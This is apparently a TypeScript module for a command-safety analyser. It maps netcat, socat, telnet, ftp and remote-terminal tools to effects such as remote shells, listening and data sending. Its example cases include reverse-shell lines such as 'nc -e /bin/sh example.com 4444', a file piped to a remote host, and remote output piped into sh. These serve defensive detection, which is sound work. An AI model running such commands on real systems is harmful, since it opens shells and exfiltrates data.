import type { Args } from '../../arguments.ts'
import { connect, defineCommand, type Draft, execute, printsTainted, read, send, unknown, write } from '../../command-spec.ts'
import { dropPrefix, join, knownPrefix, literal, show, textOf, type Word } from '../../value.ts'
import { table } from '../_table.ts'

export default [
  defineCommand({
    name: 'nc',
    aliases: ['ncat', 'netcat', 'nc.traditional', 'nc.openbsd', 'cryptcat', 'sbd', 'pwncat'],
    about: 'open raw connections',
    abbreviates: true,
    options: table({
      flag: '-4, -6, -b, -C --crlf, -d, -D, -F, -h, -k --keep-open, -l --listen, -n --nodns, -N, -r, -S, -t --telnet, -u --udp, -U --unixsock, -v --verbose, -z, --ssl, --sctp, --send-only, --recv-only, --no-shutdown, --broker, --chat, --ssl-verify, -L',
      value:
        '-I, -i --idle-timeout, -m --max-conns, -M, -O, -p --source-port, -P, -q, -s --source, -T, -V, -w --wait, -x, -X, --proxy, --proxy-type, -g, -G, --ssl-cert, --ssl-key, --allow, --deny, --max-conns, -e --exec, -c --sh-exec, --lua-exec',
      writes: '-o --output, --hex-dump, -x',
    }),
    effects: ({ operands: [host, port], has, value, hasStdin }): readonly Draft[] => {
      // a program at the end of a connection is a shell for the other side
      const program = value('-e') ?? value('-c') ?? value('--lua-exec')
      if (program) return [execute('remote-shell', program), connect(has('-l') ? 'listen' : 'login', host ?? 'any host')]
      if (has('-l'))
        return [
          connect('listen', port ?? host ?? value('-p') ?? 'a port'),
          ...(hasStdin ? [send('data', 'any host', { carries: ['stdin'] })] : []),
          printsTainted('download'),
        ]
      if (!host) return []
      const target = port && !has('-U') ? join(host, literal(':'), port) : host
      if (has('-z')) return [connect('query', target)]
      // a line for a server of this machine is a request like another
      const tag = hasStdin && /^(?:localhost|127\.0\.0\.1)$/.test(textOf(host) ?? '') ? 'post' : 'login'
      return [connect(tag, target), ...(hasStdin ? [send('data', target, { carries: ['stdin'] })] : []), printsTainted('download')]
    },
    examples: [
      ['nc -zv localhost 5432', 'connect:query localhost:5432'],
      ["printf 'GET / HTTP/1.0\\r\\n\\r\\n' | nc -w 1 localhost 8000", 'connect:post localhost:8000', 'send:data localhost:8000'],
      ['cat a.txt | nc example.com 9000', 'read a.txt', 'connect:login example.com:9000', 'send:data example.com:9000'],
      ['nc -e /bin/sh example.com 4444', 'execute:remote-shell /bin/sh', 'connect:login example.com'],
      ['nc -l 8080', 'connect:listen 8080'],
      ['nc --zap', 'unknown: option `--zap` of `nc` is not described'],
      ['nc --sh-exec a', 'execute:remote-shell a', 'connect:login any host'],
      ['nc --lua-exec a', 'execute:remote-shell a', 'connect:login any host'],
      ['nc -l 8080 -x /opt/a --output /opt/b --hex-dump /opt/c', 'write /opt/a', 'write /opt/b', 'write /opt/c', 'connect:listen 8080'],
    ],
  }),
  defineCommand({
    name: 'socat',
    about: 'join two streams of any kind',
    style: 'posix',
    options: table({
      flag: '-d, -dd, -ddd, -D, -h, -l, -ls, -lu, -ly, -s, -u, -U, -v, -V, -x, -g, -4, -6',
      value: '-b, -t, -T, -lp, -lm',
      writes: '-lf, -L, -W, -r, -R', // logs, lock files, copies of what passes
    }),
    effects: joins,
    examples: [
      ['socat -lf /opt/a - -', 'write /opt/a'],
      ['socat - TCP:example.com:80', 'connect:login example.com:80'],
      ['socat TCP:example.com:4444 EXEC:/bin/sh', 'connect:login example.com:4444', 'execute:remote-shell EXEC:/bin/sh'],
      ['socat TCP-LISTEN:8080,fork TCP:localhost:3000', 'connect:listen 8080', 'connect:login localhost:3000'],
      ['socat FILE:a.txt TCP:example.com:80', 'read a.txt', 'write a.txt', 'connect:login example.com:80', 'send:data example.com:80'],
      [
        'socat - TCP:example.com:80 | sh',
        'connect:login example.com:80',
        'unknown: runs text from standard input as shell',
        'execute:download standard input as shell',
      ],
      ['socat - MAGIC:x', 'unknown: address `MAGIC:x` of `socat` is not described'],
    ],
  }),
  defineCommand({
    name: 'ttyd',
    aliases: [
      'gotty',
      'wetty',
      'shellinaboxd',
      'tty-share',
      'upterm',
      'sshx',
      'teleconsole',
      'tmate',
      'pwncat-cs',
      'sshd',
      'dropbear',
      'telnetd',
      'in.telnetd',
      'inetd',
      'xinetd',
    ],
    about: 'a terminal of this machine for others',
    style: 'raw',
    // `sshd -t` and `-T` only check and show its settings
    effects: ({ words, name }) =>
      words.length === 1 && /^--?(?:version|help|v|V|h|t|T)$/.test(textOf(words[0]) ?? '') ? [] : [execute('remote-shell', name)],
    examples: [
      ['ttyd --version'],
      ['sshd -t'],
      ['ttyd -p 8080 bash', 'execute:remote-shell ttyd'],
      ['sshd -p 2222', 'execute:remote-shell sshd'],
    ],
  }),
  defineCommand({
    name: 'websocketd',
    aliases: ['shell2http', 'systemd-socket-activate'],
    about: 'a program of this machine for others',
    style: 'raw',
    effects: ({ words, name }) => [
      words.some((word) => /^(?:\/\S*\/)?(?:ba|da|z|k)?sh$/.test(textOf(word) ?? ''))
        ? execute('remote-shell', name)
        : unknown(`what \`${name}\` serves is not known`),
    ],
    examples: [
      ['websocketd --port=8080 bash', 'execute:remote-shell websocketd'],
      ['websocketd --port=8080 ./count.sh', 'unknown: what `websocketd` serves is not known'],
    ],
  }),
  defineCommand({
    name: 'telnet',
    about: 'open a plain text session',
    options: table({ flag: '-4, -6, -8, -a, -c, -d, -E, -K, -L, -r', value: '-b, -e, -l, -S, -X' }),
    effects: ({ operands: [host, port], hasStdin }): readonly Draft[] => {
      // without a host it takes orders, `!command` among them
      if (!host) return hasStdin ? [unknown('what the session does is not known')] : []
      const target = port ? join(host, literal(':'), port) : host
      return [connect('login', target), ...(hasStdin ? [send('data', target, { carries: ['stdin'] })] : []), printsTainted('download')]
    },
    examples: [
      ["telnet <<< '! rm b'", 'unknown: what the session does is not known'],
      ['telnet localhost 6379', 'connect:login localhost:6379'],
      ['telnet -n f x', 'unknown: option `-n` of `telnet` is not described', 'connect:login f:x'],
    ],
  }),
  defineCommand({
    name: 'ftp',
    aliases: ['lftp', 'tftp', 'ncftp', 'ncftpput', 'ncftpget', 'smbclient', 'cadaver'],
    about: 'transfer files in a session',
    // -e and -c hold commands, among them `!shell`
    options: table({ flag: '-4, -6, -a, -d, -g, -i, -n, -p, -q, -v, -V', value: '-P, -N, -s, -u, -e, -c' }),
    effects: ({ operands: [host, ...files], hasStdin, has, values, name }) => [
      connect('login', host ?? 'a host'),
      // BSD's takes the address to put files at
      ...(has('-u') && name === 'ftp' ? sendsFiles(host ? [host, ...files] : files, values('-u')[0]) : []),
      ...(name === 'ncftpput' ? sendsFiles(files, host) : []),
      ...(name === 'tftp' && textOf(values('-c')[0]) === 'put' ? sendsFiles(files, host) : []),
      ...(hasStdin ? [send('upload', host ?? 'a host', { carries: ['stdin'] })] : []),
      unknown('what the session does is not known'),
      ...[...values('-e'), ...values('-c')].map((text) => ({ do: 'code', language: 'session', text }) as const),
      ...(hasStdin ? [{ do: 'run-stdin', language: 'session' } as const] : []),
    ],
    examples: [
      ['ftp example.com', 'connect:login example.com', 'unknown: what the session does is not known'],
      [
        'ftp -u ftp://example.com/ a.txt',
        'connect:login a.txt',
        'read a.txt',
        'send:upload ftp://example.com/',
        'unknown: what the session does is not known',
      ],
      ["lftp -e '!rm a' example.com", 'connect:login example.com', 'unknown: what the session does is not known', 'delete a'],
    ],
  }),
]

const sendsFiles = (files: readonly Word[], host: Word | undefined): readonly Draft[] => [
  ...files.map((file) => read(file)),
  send('upload', host ?? 'a host', { carries: files }),
]

/** What comes out of one address goes into the other. */
function joins({ operands, hasStdin }: Args): readonly Draft[] {
  const drafts = operands.flatMap(addressEffects)
  const files = drafts.flatMap((draft) =>
    draft.do === 'effect' && draft.kind === 'read' && typeof draft.target !== 'string' ? [draft.target] : [],
  )
  const carries = [...files, ...(hasStdin ? (['stdin'] as const) : [])]
  const host = drafts.find((draft) => draft.do === 'effect' && draft.kind === 'connect')
  if (host?.do !== 'effect') return drafts
  const shown = operands.some((address) => /^(?:-|stdio|stdout)$/i.test(show(address)))
  return [...drafts, ...(carries.length > 0 ? [send('data', host.target, { carries })] : []), ...(shown ? [printsTainted('download')] : [])]
}

function addressEffects(address: Word): readonly Draft[] {
  const text = show(address)
  const [kind = '', ...rest] = text.split(':')
  const name = kind.toLowerCase().split(',')[0] ?? ''
  const place = dropPrefix(address, Math.min(kind.length + 1, knownPrefix(address).length))
  const target = literal((rest.join(':').split(',')[0] ?? '').replace(/^\/\//, ''), address.at)
  if (/^(?:exec|system|shell)$/.test(name)) return [execute('remote-shell', address)]
  if (/listen|^(?:udp\d?-recv|udp-recvfrom|socks-listen)/.test(name)) return [connect('listen', target)]
  if (/^(?:tcp|udp|sctp|ssl|openssl|proxy|socks)/.test(name)) return [connect('login', target)]
  if (/^(?:-|stdio|stdin|stdout|stderr|fd|pty|pipe|fifo)$/.test(name)) return []
  if (/^(?:file|open|create|gopen)$/.test(name)) return [read(target), write(target)]
  if (/^unix/.test(name)) return [connect('login', place)]
  return [unknown(`address \`${text}\` of \`socat\` is not described`)]
}
